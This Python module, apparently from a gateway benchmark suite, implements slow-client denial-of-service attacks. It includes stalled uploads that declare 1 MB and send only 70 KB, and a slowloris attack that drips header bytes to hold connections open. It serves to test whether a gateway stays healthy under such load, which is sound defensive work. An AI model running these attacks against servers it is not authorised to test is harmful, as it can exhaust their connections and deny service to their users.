"""Clients that are slow on purpose: stalled uploads and slowloris.

Both keep a fixed number of connections busy for the whole scenario. When the gateway
ends one (a ``408``, a ``504``, a plain close), the slot opens a new one, as a real
attacker would, at most ``max_opens`` times in total, so nothing loops unbounded.

**Stalled uploads** declare a 1 MB body, send 70 KB of it and stop. 70 KB is more than
the 64 KiB a gateway buffers for retries, so the gateway has to pick a backend and start
streaming to it before the client has finished: the stall reaches the backend. Each
stalled upload is held for ``hold`` seconds: the whole scenario in the 60-second run
(about 8 s, longer than the gateway's 5 s per-try timeout), 35 s in the 10-minute run
(also longer than its 10 s client-body and 30 s server body timeouts), after which
the client gives up. However it ends, the backends did nothing wrong, so their health,
breakers and outlier state must not change and nobody else may see an error.

**Slowloris** sends a request line and ``Host``, then one more header byte every
``interval`` seconds and never the blank line that ends the head, to hold a
connection and its task at the gateway for as long as the gateway lets it.
"""

from __future__ import annotations

import trio
from benchmarks.attacks.rawnet import NETWORK_ERRORS, AttackStats, connect, read_status

__all__ = ["slowloris", "stalled_uploads"]

_STALL_DECLARED = 1_048_576
_STALL_SENT = 70_000
_DRIBBLE = b"".join(b"X-Slow-Header-%d: %s\r\n" % (i, b"x" * 16) for i in range(2000))


async def _wait_for_gateway(stream: trio.SocketStream, until: float,
                            stats: AttackStats) -> bool:
    """Wait until ``until`` for the gateway to answer or close; True if it did."""
    with trio.move_on_at(until):
        try:
            data = await stream.receive_some(4096)
        except NETWORK_ERRORS:
            data = b""
        status = read_status(data)
        if status is not None:
            stats.statuses[status] += 1
        return True
    return False


async def _stalled_slot(host: str, port: int, hold: float, until: float,
                        stats: AttackStats, budget: list[int]) -> None:
    head = (f"POST /api/upload HTTP/1.1\r\nHost: {host}:{port}\r\n"
            f"Content-Type: application/octet-stream\r\n"
            f"Content-Length: {_STALL_DECLARED}\r\n\r\n").encode()
    body = b"s" * _STALL_SENT
    while trio.current_time() < until and budget[0] > 0:
        budget[0] -= 1
        stream = await connect(host, port, stats)
        if stream is None:
            await trio.sleep(0.2)
            continue
        by_gateway = True
        try:
            with trio.move_on_at(until):
                await stream.send_all(head + body)
            by_gateway = await _wait_for_gateway(
                stream, min(until, trio.current_time() + hold), stats)
        except NETWORK_ERRORS:
            pass
        finally:
            stats.closed_one(by_gateway=by_gateway)
            with trio.CancelScope(shield=True):
                await stream.aclose()
        await trio.sleep(0.05)


async def stalled_uploads(host: str, port: int, *, seconds: float, hold: float,
                          connections: int = 15, max_opens: int = 2000) -> AttackStats:
    """Keep ``connections`` uploads stalled after 70 KB of 1 MB for ``seconds``."""
    stats = AttackStats()
    until = trio.current_time() + seconds
    budget = [max_opens]
    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(_stalled_slot, host, port, hold, until, stats, budget)
    return stats


async def _slowloris_slot(host: str, port: int, delay: float, interval: float, until: float,
                          stats: AttackStats, budget: list[int]) -> None:
    await trio.sleep(delay)
    head = (f"GET /api/blob?n=1024&seed=1 HTTP/1.1\r\nHost: {host}:{port}\r\n").encode()
    while trio.current_time() < until and budget[0] > 0:
        budget[0] -= 1
        stream = await connect(host, port, stats)
        if stream is None:
            await trio.sleep(0.5)
            continue
        by_gateway = False
        try:
            await stream.send_all(head)
            for byte in _DRIBBLE:  # bounded: 2000 short headers, and by ``until``
                next_byte = min(until, trio.current_time() + interval)
                if await _wait_for_gateway(stream, next_byte, stats):
                    by_gateway = True
                    break
                if trio.current_time() >= until:
                    break
                await stream.send_all(bytes([byte]))
        except NETWORK_ERRORS:
            by_gateway = True
        finally:
            stats.closed_one(by_gateway=by_gateway)
            with trio.CancelScope(shield=True):
                await stream.aclose()


async def slowloris(host: str, port: int, *, seconds: float, connections: int,
                    interval: float = 1.0, ramp: float = 1.0,
                    max_opens: int = 100_000) -> AttackStats:
    """Hold ``connections`` slowloris connections for ``seconds``, opened over ``ramp`` s."""
    stats = AttackStats()
    until = trio.current_time() + seconds
    budget = [max_opens]
    async with trio.open_nursery() as nursery:
        for i in range(connections):
            nursery.start_soon(_slowloris_slot, host, port, ramp * i / connections, interval,
                               until, stats, budget)
    return stats
